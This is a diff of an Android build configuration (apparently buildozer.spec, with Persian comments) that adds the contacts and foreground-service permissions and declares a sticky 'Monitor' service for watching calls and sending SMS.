@@ -24,6 +24,9 @@ source.include_patterns = assets/*,images/*.png,fonts/*.ttf
 # (list) فایل‌های حذف شده
 source.exclude_patterns = license,images/*/*.jpg
 
+# (list) پوشه‌های حذف شده
+source.exclude_dirs = benchmarks
+
 # (str) نسخه برنامه
 version = 1.0.0
 
@@ -31,7 +34,10 @@ version = 1.0.0
 version.code = 1
 
 # (list) مجوزهای اندروید
-android.permissions = READ_PHONE_STATE,READ_CALL_LOG,SEND_SMS,READ_PHONE_NUMBERS,INTERNET,ACCESS_NETWORK_STATE
+android.permissions = READ_PHONE_STATE,READ_CALL_LOG,SEND_SMS,READ_PHONE_NUMBERS,READ_CONTACTS,INTERNET,ACCESS_NETWORK_STATE,FOREGROUND_SERVICE
+
+# (list) سرویس‌ها - مانیتورینگ تماس و ارسال پیامک در پروسه جدا از رابط کاربری
+services = Monitor:service.py:foreground:sticky
 
 # (int) حداقل نسخه SDK اندروید
 android.minapi = 30